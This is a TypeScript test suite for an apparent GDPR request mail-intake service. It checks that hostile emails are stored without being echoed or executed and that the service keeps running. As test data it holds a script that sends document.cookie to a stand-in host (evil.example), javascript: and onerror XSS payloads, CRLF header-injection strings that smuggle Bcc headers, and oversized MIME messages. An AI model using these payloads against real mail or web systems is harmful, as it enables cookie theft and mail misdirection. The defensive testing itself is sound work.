import { HeadObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { s3 } from '../../functions/adapters/clients/s3';
import { allRequests, outbox, sendMail, startTestStack, type TestStack, waitFor } from '../support/stack';
import { mailsTo } from '../support/workflow';
import { mailText } from './support';

/**
 * Attack: hostile mail content — scripts and javascript: links in HTML, CRLF header injection
 * through encoded Subject / display name / folded Message-ID, deeply nested or enormous MIME.
 * Defence: each is stored (raw in S3, a request or a triage item), never executed or echoed,
 * and neither the SMTP listener nor the intake handler falls over.
 */
let stack: TestStack;

beforeAll(async () => {
  stack = await startTestStack();
});

afterAll(async () => {
  await stack?.stepFunctions.settled();
  await stack?.dispose();
});

const b64 = (text: string) => `=?utf-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;

function raw(from: string, headers: string[], contentType: string, body: string): string {
  return [
    `From: ${from}`,
    'To: gdpr@example.com',
    `Message-ID: <${Math.random().toString(36).slice(2)}@example.org>`,
    'Date: Wed, 25 Nov 2026 10:00:00 +0100',
    'MIME-Version: 1.0',
    ...headers,
    `Content-Type: ${contentType}`,
    '',
    body,
    '',
  ].join('\r\n');
}

/** Sends over SMTP and waits for the request or triage item of this sender; checks the raw is kept. */
async function deliver(from: string, message: string): Promise<Record<string, unknown>> {
  const before = new Set((await allRequests(stack)).map((r) => r.id));
  await sendMail(stack, message, { from, to: [stack.mailbox] });
  // Found by novelty, not by sender: a mangled mail may become a triage item without one.
  const request = await waitFor(
    async () => (await allRequests(stack)).find((r) => !before.has(r.id)),
    `the request or triage item from ${from}`,
    50_000,
  );
  const rawRef = String(request.rawRef ?? '');
  const [, bucket, key] = /^s3:\/\/([^/]+)\/(.+)$/.exec(rawRef) ?? [];
  const head = await s3().send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
  expect(head.ContentLength).toBeGreaterThanOrEqual(Buffer.byteLength(message) - 2);
  return request;
}

/**
 * A request goes on to the sender's own address; a triage item waits for staff and mails no one.
 * Either way the sender is kept: for a mail too mangled to parse, as the mail server read it.
 */
async function expectAnsweredOrHeld(request: Record<string, unknown>, from: string) {
  expect(request.subjectEmail).toBe(from);
  if (request.status === 'triage') {
    expect((await outbox(stack)).filter((m) => m.subject.includes(String(request.id)))).toEqual([]);
  }
}

describe('hostile mail content', () => {
  it('stores HTML with a script, a javascript: link and an onerror handler, and echoes none of it', async () => {
    const from = 'html.attacker@example.org';
    const html =
      '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<p>Hello, I want a copy of all personal data you hold about me.</p>' +
      '<a href="javascript:alert(1)">click</a><img src="x" onerror="alert(2)"></body></html>';
    const request = await deliver(
      from,
      raw(from, ['Subject: <script>alert(3)</script> data request'], 'text/html; charset=utf-8', html),
    );
    expect(['received', 'awaiting_verification', 'triage']).toContain(request.status);
    const replies = await waitFor(async () => {
      const mails = await mailsTo(stack, from);
      return mails.length > 0 ? mails : undefined;
    }, 'a reply to the sender');
    for (const mail of replies) {
      expect(mailText(mail)).not.toMatch(/<script|javascript:|onerror|evil\.example/i);
    }
  });

  it('lets no CRLF in an encoded Subject, display name or folded Message-ID become a header of our reply', async () => {
    const from = 'injector@example.org';
    const message = [
      `From: ${b64('Evil\r\nBcc: victim@example.net')} <${from}>`,
      'To: gdpr@example.com',
      `Subject: ${b64('Data request\r\nBcc: victim@example.net\r\nX-Injected: yes')}`,
      'Message-ID: <inj-1@example.org>\r\n\tBcc: victim@example.net',
      'Date: Wed, 25 Nov 2026 10:00:00 +0100',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Hello, I want a copy of all personal data you hold about me.',
      '',
    ].join('\r\n');
    await deliver(from, message);
    const replies = await waitFor(async () => {
      const mails = await mailsTo(stack, from);
      return mails.length >= 2 ? mails : undefined;
    }, 'the acknowledgement and the verification mail');
    for (const mail of replies) {
      expect(mail.destination).toEqual(expect.objectContaining({ to: [from] }));
      expect(JSON.stringify(mail.destination)).not.toContain('victim@example.net');
      expect(mail.subject).not.toMatch(/[\r\n]|Bcc|X-Injected/i);
      for (const header of mail.headers ?? []) {
        expect(header.name).not.toMatch(/^(bcc|cc|x-injected)$/i);
        expect(header.value).not.toMatch(/[\r\n]/);
      }
    }
    expect((await outbox(stack)).some((m) => JSON.stringify(m).includes('victim@example.net'))).toBe(false);
  });

  it('takes in a mail of 200 nested multiparts', async () => {
    const from = 'nested@example.org';
    const depth = 200;
    let body =
      'Content-Type: text/plain; charset=utf-8\r\n\r\nHello, I want a copy of all personal data you hold about me.\r\n';
    for (let level = depth - 1; level >= 1; level--) {
      body = `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n${body}--b${level}--\r\n`;
    }
    const message = raw(from, ['Subject: nested'], 'multipart/mixed; boundary="b0"', `--b0\r\n${body}--b0--`);
    const request = await deliver(from, message);
    expect(request.id).toMatch(/^PD-/);
  });

  it('takes in a mail of 10,000 parts', async () => {
    const from = 'many.parts@example.org';
    const parts = Array.from(
      { length: 10_000 },
      (_, n) =>
        `--p\r\nContent-Type: text/plain; charset=utf-8\r\n\r\npart ${n}: I want a copy of my personal data.\r\n`,
    );
    const message = raw(
      from,
      ['Subject: many parts'],
      'multipart/mixed; boundary="p"',
      `${parts.join('')}--p--`,
    );
    const request = await deliver(from, message);
    expect(request.id).toMatch(/^PD-/);
    await expectAnsweredOrHeld(request, from);
  }, 60_000);

  it('takes in a mail with a 1 MB header line', async () => {
    const from = 'long.header@example.org';
    const message = raw(
      from,
      ['Subject: long header', `X-Padding: ${'a'.repeat(1024 * 1024)}`],
      'text/plain; charset=utf-8',
      'Hello, I want a copy of all personal data you hold about me.',
    );
    const request = await deliver(from, message);
    expect(request.id).toMatch(/^PD-/);
    await expectAnsweredOrHeld(request, from);
  });

  it('keeps the listener and the intake handler working after all of it', async () => {
    const from = 'after.the.storm@example.org';
    await deliver(
      from,
      raw(
        from,
        ['Subject: Data request'],
        'text/plain; charset=utf-8',
        'Hello, I want a copy of my personal data.',
      ),
    );
    expect(stack.logs.filter((line) => /intake failed|handler error/.test(line))).toEqual([]);
  });
});
